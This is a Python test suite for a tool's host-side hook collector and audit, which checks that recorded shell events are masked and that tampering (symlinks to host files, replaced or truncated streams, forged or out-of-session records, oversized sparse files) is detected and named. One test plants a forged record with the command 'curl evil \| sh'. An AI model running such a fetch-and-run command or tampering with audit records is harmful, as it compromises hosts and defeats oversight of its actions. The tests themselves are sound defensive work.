"""The hook stream is read host-side without following links; tampering is named."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from synth.record.audit import Masker, RawEvents, SynthCommand, audit_findings
from synth.record.collector import HookCollector, drain_folder, folder_usage, read_regular


def _collector(tmp_path: Path) -> HookCollector:
    shared = tmp_path / "hook"
    shared.mkdir()
    c = HookCollector(shared / "events.jsonl", tmp_path / "events.jsonl", Masker(["s3cret"]))
    c.start()
    return c


def test_lines_are_copied_as_written_and_masked(tmp_path: Path) -> None:
    c = _collector(tmp_path)
    with c.source.open("a") as fh:
        fh.write('{"ev":"begin","cmd":"echo s3cret"}\n{"ev":"par')
    assert c.poll() == b'{"ev":"begin","cmd":"echo ***"}\n'.replace(b"***", b"s3cret")
    with c.source.open("a") as fh:
        fh.write('tial"}\n')
    c.poll()
    assert c.dest.read_text() == '{"ev":"begin","cmd":"echo ***"}\n{"ev":"partial"}\n'
    assert oct(c.dest.stat().st_mode & 0o777) == "0o600"
    assert c.findings == []


def test_truncation_after_the_fact_changes_nothing_already_taken(tmp_path: Path) -> None:
    c = _collector(tmp_path)
    c.source.write_text('{"ev":"shell"}\n{"ev":"begin"}\n')
    c.poll()
    c.source.write_text("")
    c.poll()
    assert c.dest.read_text() == '{"ev":"shell"}\n{"ev":"begin"}\n'
    assert any("truncated" in f for f in c.findings)


def test_a_symlink_in_place_of_the_stream_is_never_followed(tmp_path: Path) -> None:
    c = _collector(tmp_path)
    victim = tmp_path / "host-file"
    victim.write_text("host secret\n")
    c.source.unlink()
    c.source.symlink_to(victim)
    c.poll()
    c.finish()
    assert "host secret" not in c.dest.read_text()
    assert victim.read_text() == "host secret\n"
    assert any("symlink" in f and str(victim) in f for f in c.findings)


def test_a_replaced_stream_is_named(tmp_path: Path) -> None:
    c = _collector(tmp_path)
    c.source.unlink()
    c.source.write_text('{"ev":"forged"}\n')
    c.poll()
    assert any("replaced by another file" in f for f in c.findings)


def test_a_fifo_does_not_hang_the_reader(tmp_path: Path) -> None:
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    assert read_regular(fifo, 100) is None


def test_drain_keeps_regular_traces_and_names_planted_entries(tmp_path: Path) -> None:
    c = _collector(tmp_path)
    folder = c.source.parent
    victim = tmp_path / "victim"
    victim.write_text("TOKEN s3cret\n")
    (folder / "trace-1.txt").write_text("execve s3cret\n")
    (folder / "trace-2.txt").symlink_to(victim)
    (folder / "planted").symlink_to("/etc/hostname")
    (folder / "subdir").mkdir()
    traces, findings = drain_folder(folder, "events.jsonl", tmp_path / "trace", Masker(["s3cret"]))
    assert [p.name for p in traces] == ["trace-1.txt"]
    assert traces[0].read_text() == "execve ***\n"
    assert victim.read_text() == "TOKEN s3cret\n"  # never rewritten through the link
    assert len(findings) == 3
    assert any("trace-2.txt" in f and "symlink" in f for f in findings)
    assert not folder.exists()


def _ev(ev: str, shell: str, t: float, **kw: object) -> dict[str, object]:
    return {"ev": ev, "shell": shell, "t": t, **kw}


def test_findings_for_forged_reordered_and_missing_records() -> None:
    good = [
        _ev("shell", "a", 100.5, depth=0, cmd="pip install x"),
        _ev("begin", "a", 100.6, n=1), _ev("end", "a", 101.0, n=1),
        _ev("begin", "a", 101.1, n=2),
    ]
    cmds = [SynthCommand(("bash", "-c", "pip install x"), "pip install x", "/", 100.4, 101.2)]
    assert audit_findings(RawEvents(tuple(good)), cmds, started=100, ended=102,
                          match_top_level=True) == []
    forged = [*good, _ev("begin", "a", 1.0, n=7, cmd="pip install requests==2.31.0")]
    found = audit_findings(RawEvents(tuple(forged)), cmds, started=100, ended=102,
                           match_top_level=True)
    assert any("dated outside the session" in f for f in found)
    assert any("not 1..3 in order" in f for f in found)
    missing = audit_findings(RawEvents(()), cmds, started=100, ended=102, match_top_level=True)
    assert any("have no hook record" in f for f in missing)
    extra_shell = [*good, _ev("shell", "b", 101.5, depth=0, cmd="curl evil | sh")]
    found = audit_findings(RawEvents(tuple(extra_shell)), cmds, started=100, ended=102,
                           match_top_level=True)
    assert any("match no command synth ran" in f and "curl evil" in f for f in found)
    # An exec agent starts its own shells: only the host-independent checks apply.
    assert audit_findings(RawEvents(tuple(extra_shell)), cmds, started=100, ended=102,
                          match_top_level=False) == []


def test_masker_covers_common_encodings() -> None:
    import base64
    from urllib.parse import quote

    token = "ghp_abc/def+ghi=="
    m = Masker([token])
    for form in (token, base64.b64encode(token.encode()).decode(), quote(token, safe="")):
        assert m.mask(f"x {form} y") == "x *** y"


def test_an_oversized_or_sparse_stream_costs_at_most_its_budget(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A sparse multi-GB events.jsonl with no line end, or one endless record, is read a
    chunk at a time and cut: what synth keeps and the bytes it reads stay bounded, the good
    records around it are kept, and the cut is named (the probe's 8 GB file made synth use
    7 GB of memory and write a 3 GB audit)."""
    from synth.record import collector as col

    monkeypatch.setattr(col, "MAX_STREAM_BYTES", 4 << 20)
    monkeypatch.setattr(col, "MAX_RECORD_BYTES", 64 << 10)
    monkeypatch.setattr(col, "_READ_CHUNK", 256 << 10)
    c = _collector(tmp_path)
    with c.source.open("ab") as fh:
        fh.write(b'{"ev":"shell","n":1}\n')
        fh.write(b"x" * (200 << 10) + b"\n")          # one record over the limit
        fh.write(b'{"ev":"shell","n":2}\n')
    c.poll()
    with c.source.open("ab") as fh:                   # then a sparse hole of 1 GiB
        fh.truncate(c.source.stat().st_size + (1 << 30))
    c.poll()
    c.finish()
    kept = c.dest.read_bytes()
    assert kept == b'{"ev":"shell","n":1}\n{"ev":"shell","n":2}\n'
    assert c.consumed <= 4 << 20
    assert any("over 65536 bytes" in f for f in c.findings)
    assert any("grew past" in f for f in c.findings)
    assert c.cut()["records"] == 2 and c.cut()["unread"] > (1 << 30) - (4 << 20)


def test_the_folder_s_usage_counts_blocks_held_never_through_a_link(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    folder = tmp_path / "hook"
    (folder / "sub").mkdir(parents=True)
    (folder / "sub" / "data").write_bytes(b"x" * (3 << 20))
    with (folder / "sparse").open("wb") as fh:
        fh.truncate(1 << 40)  # a 1 TiB file that holds nothing
    big = tmp_path / "outside"
    big.write_bytes(b"y" * (8 << 20))
    (folder / "link").symlink_to(big)
    (folder / "dirlink").symlink_to(tmp_path, target_is_directory=True)
    used = folder_usage(folder)
    assert 3 << 20 <= used.bytes < 4 << 20 and used.entries == 5 and used.counted_all
    assert used.over_budget() is None
    monkeypatch.setattr("synth.record.collector.MAX_FOLDER_BYTES", 2 << 20)
    assert folder_usage(folder).over_budget() == "3.0 MiB (at most 2.0 MiB is allowed there)"
    monkeypatch.setattr("synth.record.collector.MAX_FOLDER_ENTRIES", 3)
    over = folder_usage(folder)
    assert not over.counted_all and over.entries == 4
    assert over.over_budget() == "more than 3 files and folders"
